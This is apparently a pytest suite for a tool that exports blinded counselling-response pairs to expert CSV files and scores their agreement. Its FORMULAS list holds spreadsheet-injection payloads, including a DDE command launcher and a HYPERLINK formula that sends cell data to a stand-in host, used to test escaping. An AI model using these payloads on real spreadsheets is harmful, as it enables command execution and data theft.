import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.expert_files import SPEECH, Row, items, read
from support.pages import self_contained

from psyco_ray.cli.main import main
from psyco_ray.config.prompts import PRINCIPLES
from psyco_ray.evaluate import annotation, expert_csv
from psyco_ray.evaluate.expert_csv import PREFERENCES
from psyco_ray.evaluate.stats import wilson


def make_pairs(count: int) -> list[dict]:
    ratings = {f"chosen_{p}_rating": 5 for p in PRINCIPLES} | {f"rejected_{p}_rating": 2 for p in PRINCIPLES}
    texts = [
        {"prefID": f"speech-{i}-1", "ID": f"speech-{i}", "question": f"{SPEECH} ({i})", "chosen": f"Good, {i}"}
        | {"rejected": f"Bad; {i}", "chosen_model": "kind-model", "rejected_model": "cold-model"}
        for i in range(count)
    ]
    return [text | ratings | {"topic": "Anxiety"} for text in texts]


def fill(
    directory: Path,
    expert: str,
    choose: Callable[[str, Row], str],
    aspects=("overall",),
    encoding="utf-8-sig",
    **form,
) -> None:
    """Save a filled file as a spreadsheet would."""
    path = directory / f"{expert}.csv"
    rows = read(path)
    for row in rows:
        for aspect in aspects:
            row[f"{aspect} preference"] = choose(row["item"], row)
    with open(path, "w", encoding=encoding, newline="") as file:
        writer = csv.DictWriter(file, form.pop("columns", list(rows[0])), extrasaction="ignore", **form)
        writer.writeheader()
        writer.writerows(rows)


def test_the_files_are_blind_shuffled_and_complete(tmp_path) -> None:
    pairs = make_pairs(60)
    annotation.export(pairs, tmp_path, count=50, seed=1)
    names = [f"{expert}.csv" for expert in expert_csv.EXPERTS]
    assert (tmp_path / names[0]).read_bytes().startswith(b"\xef\xbb\xbf")
    first, second = (read(tmp_path / name) for name in names)
    choices = [f"{aspect} preference" for aspect in (*PRINCIPLES, "overall")]
    assert list(first[0]) == ["item", "client speech", "response A", "response B", *choices, "comment"]
    by_item = {row["item"]: row for row in first}
    assert by_item == {row["item"]: row for row in second}, "both see the same"
    assert [row["item"] for row in first] != [row["item"] for row in second], "each in another order"
    assert len(by_item) == 50
    sides = items(tmp_path)
    by_preference = {pair["prefID"]: pair for pair in pairs}
    for item, row in by_item.items():
        pair = by_preference[sides[item]["prefID"]]
        assert row["client speech"] == pair["question"]
        assert not any(row[name] for name in (*choices, "comment"))
        assert {row["response A"], row["response B"]} == {pair["chosen"], pair["rejected"]}
        assert row["response A"] == pair[sides[item]["A"]]
        assert row["response B"] == pair[sides[item]["B"]]
        assert sides[item]["chosen_model"] == "kind-model"
        assert sides[item]["rejected_safety_rating"] == 2
    assert 15 <= sum(side["A"] == "chosen" for side in sides.values()) <= 35
    for name in names:
        text = (tmp_path / name).read_text(encoding="utf-8-sig")
        assert not any(hidden in text for hidden in ("model", "speech-", "rating", "chosen", "rejected"))
    for text in ("question", "chosen", "rejected"):
        assert not any(text in side for side in sides.values()), "texts are not in the key"


def test_the_seed_and_the_ids_alone_decide(tmp_path) -> None:
    pairs = make_pairs(40)
    annotation.export(pairs, tmp_path / "a", count=20, seed=7)
    annotation.export(pairs[::-1], tmp_path / "b", count=20, seed=7)
    annotation.export(pairs, tmp_path / "c", count=20, seed=8)
    for name in ("expert-1.csv", "expert-2.csv", "key.json"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()
    assert items(tmp_path / "a").keys() != items(tmp_path / "c").keys()


FORMULAS = [
    "=cmd|' /C calc'!A0",
    'I feel bad;=HYPERLINK("http://example.org/?"&A1,"open")',
    "I feel bad\t@SUM(1)",
    "first, -2+3",
    "a list:\n- one\r\n  + two",
    'he said; "=1+1"',
    "\u00a0\uff1d1+1",
    ";\u200c=1",  # the mark itself
    "It is 5 = 5; I am fine, or so-so",
]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE], ids=["quotes", "quotes-are-text"])
def test_no_cell_is_a_formula_whatever_a_program_takes_for_the_separator(tmp_path, separator, quoting) -> None:
    pairs = make_pairs(len(FORMULAS))
    for pair, text in zip(pairs, FORMULAS, strict=True):
        pair["question"] = pair["chosen"] = text
    annotation.export(pairs, tmp_path, count=len(pairs))
    text = (tmp_path / "expert-1.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(text.splitlines(True), delimiter=separator, quoting=quoting) for cell in row]
    assert len(cells) > len(pairs)
    assert [cell for cell in cells if re.match(r"[\s\"']*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell)] == []


def test_texts_are_read_back_as_they_were(tmp_path) -> None:
    rows = [(f"p{number}", text) for number, text in enumerate(FORMULAS)]
    expert_csv.write_table(tmp_path / "table.csv", ("item", "text"), rows)
    read_back = expert_csv.read_items(tmp_path / "table.csv", ("text",), dict(rows))
    assert [(item, row["text"]) for _, item, row in read_back] == rows


def test_an_invalid_export_is_refused(tmp_path) -> None:
    pairs = make_pairs(5)
    with pytest.raises(ValueError, match="the count is -1; ask for 1 or more"):
        annotation.export(pairs, tmp_path, count=-1)
    with pytest.raises(ValueError, match="200 pairs, but there are only 5; ask for fewer"):
        annotation.export(pairs, tmp_path)
    with pytest.raises(ValueError, match="same prefID"):
        annotation.export([*pairs, pairs[0]], tmp_path, count=2)
    assert not list(tmp_path.iterdir())
    annotation.export(pairs, tmp_path, count=5)
    with pytest.raises(ValueError, match="already holds an export"):
        annotation.export(pairs, tmp_path, count=5)


FORMS = {
    "as exported": {},
    "Excel, German, old": {"encoding": "cp1252", "delimiter": ";", "lineterminator": "\r\n"},
    "Excel, UTF-8": {"encoding": "utf-8-sig", "delimiter": ";"},
    "LibreOffice, all quoted": {"encoding": "utf-8", "quoting": csv.QUOTE_ALL, "lineterminator": "\n"},
    "tabs": {"encoding": "utf-8", "delimiter": "\t"},
    "UTF-16": {"encoding": "utf-16", "delimiter": "\t"},
    "other columns": {"columns": ["comment", *PREFERENCES.values(), "response B", "item", "client speech"]},
}


@pytest.mark.parametrize("form", FORMS)
def test_choices_are_read_however_the_file_was_saved(tmp_path, form) -> None:
    annotation.export(make_pairs(30), tmp_path, count=30)
    sides = items(tmp_path)
    label = {item: "A" if side["A"] == "chosen" else "B" for item, side in sides.items()}
    other = {"A": "B", "B": "A"}
    spelling = {"A": ["A", "a", " response A ", "Response  a"], "B": ["B", "b ", "response b", "RESPONSE B"]}
    wrong, unfilled = sorted(sides)[:6], sorted(sides)[6:10]

    def choose(item: str, row: Row) -> str:
        choice = other[label[item]] if item in wrong else label[item]
        return " " if item in unfilled else spelling[choice][int(item[-1], 16) % 4]

    fill(tmp_path, "expert-1", choose, **dict(FORMS[form]))
    fill(tmp_path, "expert-2", lambda item, row: label[item])
    result = annotation.score(tmp_path)
    assert result["items"] == 30
    assert result["experts"]["expert-1"] == {"filled": 26, "unfilled": 4 + 7 * 30}
    assert result["experts"]["expert-2"] == {"filled": 30, "unfilled": 7 * 30}
    between = result["between_experts"]["overall"]
    assert (between["items"], between["equal"], between["share"]) == (26, 20, 20 / 26)
    assert between["wilson"] == wilson(20, 26)
    assert result["with_labels"]["expert-1"]["overall"] == between, "the second expert chose the labels"
    second = result["with_labels"]["expert-2"]["overall"]
    assert second["share"] == second["kappa"]["value"] == 1
    assert result["paper"] == {"between_experts": 0.87, "expert-1": 0.92, "expert-2": 0.85}
    for name in ("kappa", "alpha"):
        assert between[name]["low"] < between[name]["value"] < between[name]["high"]
    json.dumps(result, allow_nan=False)


def test_an_excel_file_is_read_under_the_name_of_the_export(tmp_path) -> None:
    annotation.export(make_pairs(6), tmp_path, count=6)
    for expert in ("expert-1", "expert-2"):
        fill(tmp_path, expert, lambda item, row: "A")
    path = tmp_path / "expert-1.csv"
    book = openpyxl.Workbook()
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
        book.active.append([cell or None for cell in row])
    book.save(path)
    assert annotation.score(tmp_path)["experts"]["expert-1"] == {"filled": 6, "unfilled": 7 * 6}


def test_blank_cells_that_a_spreadsheet_drops_at_the_end_of_a_row_are_blank(tmp_path) -> None:
    annotation.export(make_pairs(6), tmp_path, count=6)
    fill(tmp_path, "expert-1", lambda item, row: "")
    fill(tmp_path, "expert-2", lambda item, row: "B")
    path = tmp_path / "expert-1.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    rows[1:] = [[*row[:4], "A"] for row in rows[1:]]
    with open(path, "w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    assert annotation.score(tmp_path)["experts"]["expert-1"] == {"filled": 6, "unfilled": 7 * 6}


def test_kappa_of_an_expert_who_always_takes_one_side_is_0(tmp_path) -> None:
    annotation.export(make_pairs(100), tmp_path, count=100)
    fill(tmp_path, "expert-1", lambda item, row: "A")
    result = annotation.score(tmp_path)
    assert result["with_labels"]["expert-1"]["overall"]["kappa"]["value"] == pytest.approx(0)
    assert result["between_experts"]["overall"] is result["with_labels"]["expert-2"]["overall"] is None


def test_rows_that_were_deleted_and_blank_rows_count_as_unfilled(tmp_path) -> None:
    annotation.export(make_pairs(6), tmp_path, count=6)
    fill(tmp_path, "expert-1", lambda item, row: "A")
    path = tmp_path / "expert-1.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    with open(path, "w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([*rows[:5], [], ["", " ", "", "", "", ""]])
    assert annotation.score(tmp_path)["experts"]["expert-1"] == {"filled": 4, "unfilled": 8 * 6 - 4}


def test_invalid_files_are_named_with_file_and_row(tmp_path) -> None:
    with pytest.raises(ValueError, match=r"key\.json does not exist; name the directory"):
        annotation.score(tmp_path)
    annotation.export(make_pairs(6), tmp_path, count=6)
    item = read(tmp_path / "expert-2.csv")[2]["item"]
    fill(tmp_path, "expert-2", lambda i, row: "both" if i == item else "A")
    with pytest.raises(
        ValueError,
        match=rf"csv row 4: the overall preference of item {item}, a text of 4 characters, is neither A nor B",
    ):
        annotation.score(tmp_path)
    path = tmp_path / "expert-1.csv"
    good = path.read_text(encoding="utf-8-sig")
    first = read(path)[0]["item"]
    for text, words in (
        (good.replace(first, "12"), r"row 2: its item, a text of 2 characters, is not in key\.json"),
        (good.replace(read(path)[1]["item"], first), f"row 3: item {first} comes a second time"),
        (good.replace("overall preference", "prefers", 1), "has no column overall preference"),
        (good.replace("safety preference", "prefers", 1), "has no column safety preference"),
        (good.replace("safety preference", "overall preference", 1), "has two columns overall preference"),
        (good.replace("safety preference", "Overall  Preference", 1), "has two columns overall preference"),
        ("", "has no rows"),
    ):
        path.write_text(text, encoding="utf-8")
        with pytest.raises(ValueError, match=words):
            annotation.score(tmp_path)
    path.unlink()
    with pytest.raises(ValueError, match=r"expert-1\.csv does not exist"):
        annotation.score(tmp_path)


def test_a_first_row_of_texts_is_not_shown(tmp_path) -> None:
    annotation.export(make_pairs(6), tmp_path, count=6)
    (tmp_path / "expert-1.csv").write_text("I want to die,I want  to die,help me\na,b,c\n")
    with pytest.raises(ValueError, match=r"has two columns \(a text of 1\d characters\); keep") as caught:
        annotation.score(tmp_path)
    assert "die" not in str(caught.value)


def test_each_principle_is_compared_with_its_own_ratings(tmp_path) -> None:
    pairs = make_pairs(20)
    for number, pair in enumerate(pairs):
        pair["rejected_safety_rating"] = 5 if number < 6 else 2  # equal ratings are no label
        pair["chosen_clarity_rating"], pair["rejected_clarity_rating"] = 1, 4  # the rejected response is clearer
        pair["chosen_staging_rating"] = None
    annotation.export(pairs, tmp_path, count=20)
    sides = items(tmp_path)
    label = {item: "A" if side["A"] == "chosen" else "B" for item, side in sides.items()}
    fill(tmp_path, "expert-1", lambda item, row: label[item], (*PRINCIPLES, "overall"))
    fill(tmp_path, "expert-2", lambda item, row: label[item] if item in sorted(sides)[:15] else "", ("safety",))
    result = annotation.score(tmp_path)
    first, second = (result["with_labels"][expert] for expert in expert_csv.EXPERTS)
    assert list(first) == list(result["between_experts"]) == [*PRINCIPLES, "overall"]
    assert (first["empathy"]["items"], first["empathy"]["share"], first["empathy"]["kappa"]["value"]) == (20, 1, 1)
    assert (first["safety"]["items"], first["safety"]["equal"]) == (14, 14)
    assert (first["clarity"]["items"], first["clarity"]["equal"]) == (20, 0)
    assert first["clarity"]["wilson"] == wilson(0, 20)
    assert first["staging"] is None, "pairs without ratings have no label"
    assert first["overall"]["equal"] == 20
    assert result["between_experts"]["safety"]["items"] == 15
    assert result["between_experts"]["staging"] is None
    assert second["overall"] is None
    assert result["experts"]["expert-1"] == {"filled": 160, "unfilled": 0}
    assert result["experts"]["expert-2"] == {"filled": 15, "unfilled": 145}


def test_an_export_without_principles_is_scored_overall(tmp_path) -> None:
    annotation.export(make_pairs(10), tmp_path, count=10)
    key = json.loads((tmp_path / "key.json").read_text())
    del key["aspects"]
    (tmp_path / "key.json").write_text(json.dumps(key))
    for expert in expert_csv.EXPERTS:
        rows = [[row["item"], "A"] for row in read(tmp_path / f"{expert}.csv")]
        expert_csv.write_table(tmp_path / f"{expert}.csv", ("item", "preference"), rows)
    result = annotation.score(tmp_path)
    assert list(result["between_experts"]) == list(result["with_labels"]["expert-1"]) == ["overall"]
    assert result["between_experts"]["overall"]["share"] == 1
    assert result["experts"]["expert-2"] == {"filled": 10, "unfilled": 0}
    assert main(["data", "agreement", str(tmp_path)]) == 0


def test_the_command_prints_and_writes_the_agreement(tmp_path, capsys) -> None:
    annotation.export(make_pairs(12), tmp_path, count=12)
    assert main(["data", "agreement", str(tmp_path)]) == 0
    page = self_contained((tmp_path / "report.html").read_text("utf-8"))
    assert "No pair has an overall choice of both experts yet" in " ".join(page.text.split())
    fill(tmp_path, "expert-1", lambda item, row: "A", (*PRINCIPLES, "overall"))
    fill(tmp_path, "expert-2", lambda item, row: "A" if int(item[1:], 16) % 3 else "B", ("empathy", "overall"))
    capsys.readouterr()
    assert main(["data", "agreement", str(tmp_path)]) == 0
    stored = json.loads((tmp_path / "agreement.json").read_text())
    assert stored == json.loads(json.dumps(annotation.score(tmp_path)))
    markdown = (tmp_path / "agreement.md").read_text("utf-8")
    assert markdown in capsys.readouterr().out
    page = self_contained((tmp_path / "report.html").read_text("utf-8"))
    between = stored["between_experts"]["empathy"]
    low, high = between["wilson"]
    share = f"{100 * between['share']:.1f} ({100 * low:.1f} to {100 * high:.1f})"
    assert any(row[:3] == ["empathy", "12", share] for row in page.rows)
    assert ["safety", "0", "–", "–", "–"] in page.rows
    assert ["overall, the paper", "200", "87.0", "–", "–"] in page.rows
    assert f"| empathy | 12 | {share} |" in markdown


@settings(max_examples=25)
@given(st.lists(st.sampled_from(["A", "B", ""]), min_size=12, max_size=12), st.integers(0, 99))
def test_agreement_with_the_labels_is_the_share_of_chosen(tmp_path_factory, choices: list[str], seed: int) -> None:
    directory = tmp_path_factory.mktemp("export")
    annotation.export(make_pairs(12), directory, count=12, seed=seed)
    sides = items(directory)
    by_item = dict(zip(sorted(sides), choices, strict=True))
    fill(directory, "expert-1", lambda item, row: by_item[item])
    filled = [sides[item][choice] for item, choice in by_item.items() if choice]
    result = annotation.score(directory)["with_labels"]["expert-1"]["overall"]
    assert (result is None) == (not filled)
    assert result is None or (result["items"], result["equal"]) == (len(filled), filled.count("chosen"))
